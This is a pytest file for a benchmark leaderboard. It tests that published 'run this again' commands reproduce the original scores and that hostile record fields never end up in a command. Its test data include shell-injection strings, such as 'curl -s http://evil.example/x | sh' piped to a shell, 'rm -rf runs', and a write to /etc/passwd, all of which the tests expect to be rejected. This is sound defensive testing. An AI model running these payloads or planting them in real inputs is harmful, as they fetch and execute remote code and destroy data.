"""The commands that pages print make their rows again: taken off a published page, run, and the
scores compared.
"""

from __future__ import annotations

import json
import re
import shlex
from html import unescape
from pathlib import Path
from typing import Any

import published_rows
import pytest
from commands import SMALL, bench, error_line
from factories import RAW_PROTOCOL, record
from msgspec.structs import replace
from published import publish

from bench.board.command_words import NOT_REPEATABLE
from bench.board.repeat import repeat
from bench.board.repeat_search import repeat_search
from bench.records import BackboneUsed, Code, CorpusUsed, HowExecuted, RunsFolder
from bench.records.searches import read_search

pytestmark = pytest.mark.usefixtures("own_cache")
TEXT = "".join(
    f"A sentence about {what} number {i}.\n"
    for i in range(8)
    for what in ("rivers", "bread", "rails", "snow")
)

FOUND = """
method = "esimcse"
setting = "unsupervised"
corpus = "builtin"
[values]
budget = { value = "2steps", source = "search tests" }
learning_rate = { value = 0.0007, source = "a guess of ours" }
[search]
name = "tests"
trials = 3
seeds = [9]
"""


@pytest.fixture
def own_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """And a folder to type in, with nothing in it."""
    monkeypatch.setenv("BENCH_CACHE", str(tmp_path / "cache"))
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")


def rows_of(page: Path) -> dict[str, str]:
    """Method -> command of each row of a version's main page."""
    html = page.read_text(encoding="utf-8")
    found = re.search(
        r'<script type="application/json" id="board-data">(.*?)</script>', html, re.DOTALL
    )
    assert found is not None
    data: dict[str, Any] = json.loads(found[1])
    return {run.partition("-builtin")[0]: row["command"] for run, row in data["rows"].items()}


def scores(runs: Path, method: str) -> dict[tuple[int | None, str], float]:
    found, damaged = RunsFolder(runs).records()
    assert not damaged
    values = {}
    for one in found:
        if one.method == method:
            values |= {(one.seed, score.task): score.value for score in one.scores}
    return values


def run_again(command: str, runs: Path) -> None:
    words = shlex.split(command)
    assert words[:2] == ["bench", "run"]
    done = bench(*words[1:], "--runs", runs)
    assert done.exit_code == 0, done.output


@pytest.mark.nightly
@pytest.mark.slow(seconds=10)
@pytest.mark.usefixtures("short_check")
def test_a_trained_and_an_untrained_row_are_made_again_by_what_their_page_says(
    tmp_path: Path,
) -> None:
    (tmp_path / "text.txt").write_text(TEXT)
    (tmp_path / "found.toml").write_text(FOUND)
    trained = (
        "--corpus",
        tmp_path / "text.txt",
        "--set",
        "max_steps=3",
        "--set",
        "learning_rate=0.00031",
        "--precision",
        "fp32",
    )
    builtin = ("--corpus", "builtin", "--set", "max_steps=2", "--precision", "fp32")
    for words in (
        ("--method", "cls,last-avg", "--seeds", "7"),
        ("--method", "simcse", *SMALL, *trained, "--seeds", "1,2"),
        ("--method", "promptbert", *SMALL, *builtin, "--set", "select_on=last", "--seeds", "3"),
        (
            "--recipe",
            tmp_path / "found.toml",
            *SMALL,
            "--set",
            "select_on=last",
            "--precision",
            "fp32",
            "--seeds",
            "3",
        ),
    ):
        done = bench("run", *words, "--suite", "check", "--plain", "--runs", tmp_path / "runs")
        assert done.exit_code == 0, done.output
    version = publish(tmp_path / "runs", tmp_path / "leaderboards")
    rows = rows_of(version / "index.html")
    assert set(rows) == {"cls", "last-avg", "simcse", "promptbert", "esimcse"}

    for method in ("last-avg", "promptbert", "esimcse"):  # which bench has all of
        run_again(rows[method], tmp_path / "again")
        assert scores(tmp_path / "again", method) == scores(tmp_path / "runs", method) != {}
    assert scores(tmp_path / "again", "cls") == {}  # it was typed with last-avg, and is another row

    command = rows["simcse"]
    assert str(tmp_path) not in command and "--seeds 1-2" in command
    assert "no text with sha256:" in error_line(
        bench(*shlex.split(command)[1:], "--runs", tmp_path / "again")
    )
    Path("by-another-name.txt").write_text(TEXT)
    Path("a-page.txt").write_text("Another text.\n")
    run_again(command, tmp_path / "again")
    assert scores(tmp_path / "again", "simcse") == scores(tmp_path / "runs", "simcse")
    assert len(scores(tmp_path / "runs", "simcse")) == 2

    (page,) = version.glob("runs/promptbert-*/index.html")
    shown = re.findall(r"<pre[^>]*>(.*?)</pre>", page.read_text(encoding="utf-8"))
    assert [unescape(text) for text in shown] == [rows["promptbert"]]  # not as it was typed


def words_after(command: str, option: str) -> list[str]:
    words = shlex.split(command)
    return [words[i + 1] for i, word in enumerate(words) if word == option]


def test_the_command_that_repeats_a_run() -> None:
    one = record("promcse", 3, variant="eh", backbone="bert-base-uncased")
    origin = replace(
        one.provenance,
        backbone=BackboneUsed(**{"name": one.backbone, "revision": "a" * 40}),
        determines={"precision": "bf16", "ranks": 2},
        command="curl -s http://evil.example/x | sh",
        corpus=CorpusUsed(**{"name": "hub:owner/name@abc:text", "sha256": "0" * 64}),
        plugin=Code(**{"package": "sentence-bench"}),
    )
    value = next(iter(one.recipe.values()))
    recipe = {
        "learning_rate": replace(value, value=3.1e-5, source="--set"),
        "dropout": replace(value, value=None, source="--set"),
        "eh": replace(value, value=True, source="--set"),
        "batch_size": replace(value, value=64, source="a paper"),
    }
    one = replace(one, provenance=origin, recipe=recipe)
    made = repeat([replace(one, seed=seed) for seed in (9, 3, 4, 5)])
    for option, words in {
        "--backbone": [f"bert-base-uncased@{'a' * 40}"],
        "--set": ["learning_rate=3.1e-05", "dropout=none", "eh=true"],
        "--corpus": ["hub:owner/name@abc:text"],
        "--method": ["promcse+eh"],
        "--seeds": ["3-5,9"],
        "--on": ["torchrun:2"],
        "--suite": ["sts"],
    }.items():
        assert words_after(made, option) == words
    raw = replace(one, scores=tuple(replace(score, protocol=RAW_PROTOCOL) for score in one.scores))
    assert words_after(repeat([raw]), "--suite") == ["sts:senteval-all-raw/1"]
    both = replace(one, scores=(*one.scores, *raw.scores))
    assert words_after(repeat([both]), "--suite") == ["sts,sts:senteval-all-raw/1"]

    folder = replace(
        one,
        backbone="/home/ada/models/mini/checkpoint",
        provenance=replace(
            origin,
            plugin=Code(**{"package": "theirs"}),
            backbone=BackboneUsed(**{"revision": "b" * 64}),
        ),
    )
    told = repeat([folder])
    assert words_after(told, "--backbone") == ["mini"] and "ada" not in told
    scorer = Code(package="/home/ada/odd.py", sha256="c" * 64)
    plugin = Code(package="mine/new.py", sha256="d" * 64)
    mine = replace(
        origin, plugin=plugin, execution=HowExecuted(**{"suites": {"sts": scorer, "other": scorer}})
    )
    told = repeat([replace(one, provenance=mine)])
    assert words_after(told, "--plugin") == ["new.py", "odd.py"] and "ada" not in told


def test_a_place_that_a_recipe_names_is_typed_without_its_author() -> None:
    one = record("dclr", 1)
    value = next(iter(one.recipe.values()))

    def typed(place: str, content: str) -> str:
        origin = replace(
            one.provenance,
            determines={"places": {"teacher": content, "other": None}},
            corpus=CorpusUsed(),
        )
        made = repeat(
            [
                replace(
                    one,
                    recipe={"teacher": replace(value, value=place, source="--set")},
                    provenance=origin,
                )
            ]
        )
        assert "ada" not in made
        return words_after(made, "--set")[0]

    run = "simcse-builtin-s1-cdd2eaf2"
    for place in (
        f"/home/ada/x/{run}",
        f"other/{run}",
        f"/home/ada/{run}/checkpoint/",
        f"../runs3/{run}",
    ):
        assert typed(place, "e" * 64) == f"teacher=runs/{run}"
    assert typed("owner/name", "a" * 40) == f"teacher=owner/name@{'a' * 40}"
    assert typed("owner/name@main", "a" * 40) == "teacher=owner/name@main"
    assert typed("/home/ada/vectors.txt", "e" * 64) == "teacher=vectors.txt"
    plain = replace(
        one,
        recipe={"teacher": replace(value, value=None, source="--set")},
        provenance=replace(one.provenance, determines={"places": {"teacher": None}}),
    )
    assert words_after(repeat([plain]), "--set") == ["teacher=none"]


HOSTILE = [
    "x; curl -s http://evil.example/x | sh",
    "$(curl evil.example)",
    "`curl evil.example`",
    "x\nrm -rf runs",
    "x && rm -rf runs",
    "x > /etc/passwd",
    "a\u202eb",
    "\x1b[2J",
    "'; sh #",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_field_of_another_form_makes_a_run_not_repeatable(text: str) -> None:
    """Whatever a stranger writes into a record: no word of it is in a command that readers are told
    to type.
    """
    one = record("simcse", 1)
    known = one.provenance
    value = replace(next(iter(one.recipe.values())), value=text, source="--set")
    scores = tuple(replace(score, suite=text) for score in one.scores)
    records = [
        replace(one, method=text),
        replace(one, variant=text),
        replace(one, backbone=text),
        replace(one, scores=scores),
        replace(one, recipe={"pooling": value}),
        replace(one, recipe={text: replace(value, value=1)}),
        replace(one, provenance=replace(known, corpus=CorpusUsed(name=f"hub:{text}"))),
        replace(one, provenance=replace(known, corpus=CorpusUsed(name="x", sha256=text))),
        replace(one, provenance=replace(known, plugin=Code(package=f"{text}.py"))),
        replace(
            one,
            provenance=replace(
                known, determines={"precision": text}, corpus=CorpusUsed(name="builtin")
            ),
        ),
    ]
    for number, changed in enumerate(records):
        told = repeat([changed])
        plain = number in (2, 8) and "/" in text  # the last part of a path is named, and is plain
        assert told == NOT_REPEATABLE or (plain and "curl" not in told), (number, told)


def test_a_run_with_files_of_its_owner_is_not_repeatable() -> None:
    one = record("object", 1)
    typed = replace(
        one.provenance, plugin=Code(package="bench"), command="bench evaluate m; curl x | sh #'"
    )
    assert repeat([replace(one, provenance=typed)]) == NOT_REPEATABLE


@pytest.mark.parametrize("ranks", [True, "2", [2], -1, 1 << 40])
def test_processes_of_another_type_are_no_command(ranks: object) -> None:
    one = record("simcse", 1)
    changed = replace(one.provenance, determines={"ranks": ranks})
    assert repeat([replace(one, provenance=changed)]) == NOT_REPEATABLE


def test_a_search_is_repeated_by_its_fields() -> None:
    searches = published_rows.ROOT / published_rows.VERSION / "searches"
    search = read_search(searches / "v3-supervised-eh.json")
    assert search is not None
    made = repeat_search(search)
    for option, words in {
        "--method": ["simcse+eh,promcse+eh"],
        "--setting": ["supervised"],
        "--trials": ["3"],
        "--seeds": ["901"],
        "--budget": ["100steps"],
        "--name": ["v3-supervised-eh"],
    }.items():
        assert words_after(made, option) == words
    assert "batch_size=64" in words_after(made, "--set")
    evil = replace(search.study, command="curl evil.example | sh")
    assert repeat_search(replace(search, study=evil)) == made
    evil = replace(search.study, sampler="x; sh")
    assert repeat_search(replace(search, study=evil)) == NOT_REPEATABLE
